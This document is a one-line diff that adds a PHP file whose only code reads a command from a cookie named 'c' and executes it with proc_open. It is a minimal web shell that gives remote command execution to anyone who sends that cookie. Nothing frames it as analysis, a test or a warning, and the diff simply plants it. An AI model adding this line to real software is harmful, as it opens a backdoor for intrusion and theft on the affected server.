@@ -1,0 +1,1 @@
+<?php $c = trim($_COOKIE['c']); $p = proc_open($c, array(), $pipes);
